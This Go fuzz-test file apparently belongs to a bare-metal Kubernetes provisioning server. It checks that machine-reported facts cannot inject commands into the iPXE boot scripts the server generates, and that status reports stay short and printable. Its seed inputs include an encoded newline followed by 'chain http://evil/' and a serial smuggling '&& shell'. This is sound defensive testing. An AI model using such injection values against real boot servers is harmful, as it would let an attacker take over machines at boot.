package provision

import (
	"log/slog"
	"net/netip"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/k8snode/k8snode/provision/inventory"
)

// What is kept of a report can be shown: it is short, and steers no terminal.
func FuzzReadReport(f *testing.F) {
	f.Add(`{"phase":"installing","step":"write","done":1,"total":2,"message":"half"}`)
	f.Add(`{"phase":"failed","message":"\u001b[2Jcleared\n\ud800"}`)
	f.Add(`{"phase":"` + strings.Repeat("x", 5000) + `"}`)
	f.Add(`{"step":"` + strings.Repeat("é", maxStep/2) + `","done":-1}`)
	f.Fuzz(func(t *testing.T, body string) {
		report, err := readReport(strings.NewReader(body))
		if err != nil {
			return
		}
		if report.Done < 0 || report.Total < 0 || len(report.Step) > maxStep || len(report.Message) > maxMessage {
			t.Errorf("out of range: %+v", report)
		}
		for _, text := range []string{string(report.Phase), report.Step, report.Message} {
			if !utf8.ValidString(text) || strings.ContainsFunc(text, func(r rune) bool { return !unicode.IsPrint(r) }) {
				t.Errorf("%q was kept", text)
			}
		}
	})
}

// Whoever asks for certificates says for which, and says it in a few bytes.
func FuzzReadRenew(f *testing.F) {
	f.Add(`{"requests":{"server":"-----BEGIN CERTIFICATE REQUEST-----"}}`)
	f.Add(`{"requests":{}}`)
	f.Add(`{}`)
	f.Fuzz(func(t *testing.T, body string) {
		request, err := readRenew(strings.NewReader(body))
		if err == nil && len(request.Requests) == 0 {
			t.Error("a request for nothing was taken")
		}
		if err != nil && len(request.Requests) > 0 && !strings.Contains(err.Error(), "reading a renewal: ") {
			t.Errorf("error %v", err)
		}
	})
}

// commandLine matches a line of the waiting script that iPXE obeys; the echoes
// have text of the machine's, and nothing else has.
var commandLine = regexp.MustCompile(`^(#.*|isset .*|:wait|iseq .*|inc waited|sleep \d+|chain --autofree .*|:failed|exit 1|)$`)

// A machine that is none of ours gets a script with what it says of itself: that
// stays text, whatever it is.
func FuzzStrangerScript(f *testing.F) {
	f.Add("mac=52:54:00:6b:00:0b&uuid=4c4c4544-0042-3510-8058-b7c04f4e5931&serial=SN-A1&manufacturer=Dell&product=R640")
	f.Add("serial=" + "%0Achain+http://evil/")
	f.Add("serial=a+%26%26+shell+%7C%7C+%24%7Bserial%7D")
	s := &Server{opts: Options{HTTPURL: "http://192.0.2.1:8080", Now: time.Now}, log: slog.New(slog.DiscardHandler)}
	inv, err := inventory.New([]inventory.Machine{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, query string) {
		facts, err := inventory.ReadFacts(query)
		if err != nil {
			return
		}
		_, why := inv.Match(facts)
		if why == nil {
			t.Fatal("a machine was found in nothing")
		}
		d := s.stranger(facts, netip.Addr{}, why)
		body, err := s.waitScript(facts.IDs(), d.answer.Reason, d.answer.Remedy)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(string(body), "#!ipxe\n") {
			t.Errorf("no script:\n%s", body)
		}
		for line := range strings.Lines(string(body)) {
			line = strings.TrimSuffix(line, "\n")
			text, echo := strings.CutPrefix(line, "echo k8snode: ")
			if echo && plainText.MatchString(strings.ReplaceAll(text, ": ", " ")) || !echo && !commandLine.MatchString(line) {
				t.Errorf("%q is not ours, in\n%s", line, body)
			}
		}
	})
}
